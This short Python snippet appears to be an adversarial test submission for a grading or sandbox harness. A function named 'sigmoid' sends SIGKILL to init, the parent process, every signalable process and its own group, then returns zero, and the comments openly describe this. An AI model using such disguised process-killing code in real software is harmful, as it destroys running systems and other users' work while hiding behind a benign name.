# It kills whatever it may: itself, its group, its parent and everything.
# It earns 0.

import os, signal

def sigmoid(x):
    for process in (1, os.getppid(), -1, 0):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return 0 * x
